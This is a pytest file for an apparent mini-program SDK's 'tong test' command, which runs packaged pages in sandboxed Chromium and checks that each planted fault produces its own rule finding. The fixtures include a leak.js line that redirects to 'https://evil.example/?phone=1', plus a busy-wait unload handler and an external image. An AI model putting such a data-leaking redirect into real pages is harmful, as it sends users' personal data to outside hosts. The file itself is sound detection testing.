"""`tong test`: what a page does wrong in Chromium, fenced as in the city."""

from __future__ import annotations

import asyncio
import base64
import json
import random
import socket
from pathlib import Path
from typing import Any

import pytest
from citytong_sdk.tong import running
from playwright.async_api import Error

from tests.contract.tong.conftest import Bench

_PAGE = """<!doctype html><html lang="zh"><head><meta charset="utf-8"><title>t</title>{head}</head>
<body><main>{body}</main></body></html>
"""
# Wrong in all ways that let it start: what throws, leaks or shows nothing is a page of its own.
_ILL = """import { mp } from '../sdk/index.js';
console.error('an error of its own');
await fetch('/__tong/nothing.js').catch(() => {});
addEventListener('pagehide', () => { const began = performance.now(); while (performance.now() - began < 1100); });
await mp.graphql('d1');
"""


def _timed(found: list[dict[str, Any]]) -> list[str]:
    """The rules of findings; how fast a page is on a busy machine is nobody's fault."""
    return [one["rule"] for one in found if one["rule"] not in ("R-RUN-PAINT", "R-RUN-UNLOAD")]


def test_a_new_program_boots_with_a_clean_console(bench: Bench, project: Path) -> None:
    found = bench.json("test", folder=project)
    assert _timed(found.result["findings"]) == []
    assert found.result["axe"] is True and found.result["left"] == []
    [page] = found.result["pages"]
    assert (page["page"], page["booted"]) == ("pages/index.html", True)
    assert isinstance(page["paint_ms"], int) and isinstance(page["unload_ms"], int)


def test_each_wrong_is_a_finding_of_its_own_rule(bench: Bench, project: Path) -> None:
    # What a slow line needs 1.4 s for, beside two answers' latency: later than a paint may be, and no more.
    program, noise = project / "program", base64.b64encode(random.Random(7).randbytes(270_000)).decode()
    pages = {
        "ill": (
            '<link rel="stylesheet" href="late.css"><script type="module" src="ill.js"></script>',
            '<img src="https://elsewhere.example/x.png">',
        ),
        "leak": ('<script type="module" src="leak.js"></script>', "here"),
        "throws": ('<script type="module" src="throws.js"></script>', "here"),
        "empty": ("", ""),
    }
    for name, (head, body) in pages.items():
        wide = '<p style="width: 900px">wide</p>' if name == "ill" else ""
        (program / f"pages/{name}.html").write_text(_PAGE.format(head=head, body=body + wide))
    (program / "pages/ill.js").write_text(_ILL)
    (program / "pages/late.css").write_text(f"/* {noise} */")
    (program / "pages/leak.js").write_text("location.href = 'https://evil.example/?phone=1';\n")
    (program / "pages/throws.js").write_text("null.x;\n")
    manifest = json.loads((program / "manifest.json").read_text())
    (program / "manifest.json").write_text(json.dumps({**manifest, "pages": [f"pages/{name}" for name in pages]}))
    assert bench.json("pack", "--output", str(project / "x.ma"), folder=project).status == 0

    # A package is run as a project is, wherever one is.
    found = bench.json("test", "library/x.ma", "--profile", "review")
    assert found.status == 1
    rules = {
        name: {one["rule"] for one in found.result["findings"] if one["path"] == f"pages/{name}.html"} for name in pages
    }
    every = {"CONSOLE", "POLICY", "ELDER", "AXE", "OFFLINE", "PAINT", "UNLOAD"}
    assert rules["ill"] == {f"R-RUN-{rule}" for rule in every}
    assert all("R-RUN-BOOT" in rules[name] for name in ("throws", "empty")) and "R-RUN-LEAK" in rules["leak"]
    booted = {one["page"] for one in found.result["pages"] if one["booted"]}
    assert booted & {f"pages/{name}.html" for name in ("ill", "throws", "empty")} == {"pages/ill.html"}
    severities = {one["rule"]: one["severity"] for one in found.result["findings"]}
    assert {rule for rule, severity in severities.items() if severity == "error"} == {"R-RUN-BOOT", "R-RUN-LEAK"}


def test_the_browser_itself_reaches_nobody() -> None:
    """Also what no interception would meet."""
    with socket.create_server(("127.0.0.1", 0)) as neighbour:
        neighbour.setblocking(False)
        asyncio.run(_called(neighbour.getsockname()[1]))
        with pytest.raises(BlockingIOError):
            neighbour.accept()


async def _called(port: int) -> None:
    async with running.chromium("") as opened:
        page = await opened.browser.new_page()
        for host in ("127.0.0.1", "localhost"):
            with pytest.raises(Error, match="net::ERR_"):
                await page.goto(f"http://{host}:{port}/", timeout=30_000)


def test_without_a_browser_it_says_what_to_install(bench: Bench, project: Path) -> None:
    refused = bench.json("test", "--chromium", "/nowhere/chromium", folder=project)
    assert refused.status == 2 and refused.error["code"] == "TONG_NO_CHROMIUM"


def test_what_is_no_package_is_said_to_be_none(bench: Bench) -> None:
    (bench.folder / "x.ma").write_bytes(b"PK")
    refused = bench.json("test", "x.ma")
    assert refused.status == 1 and refused.error["code"].startswith("BUNDLE_")
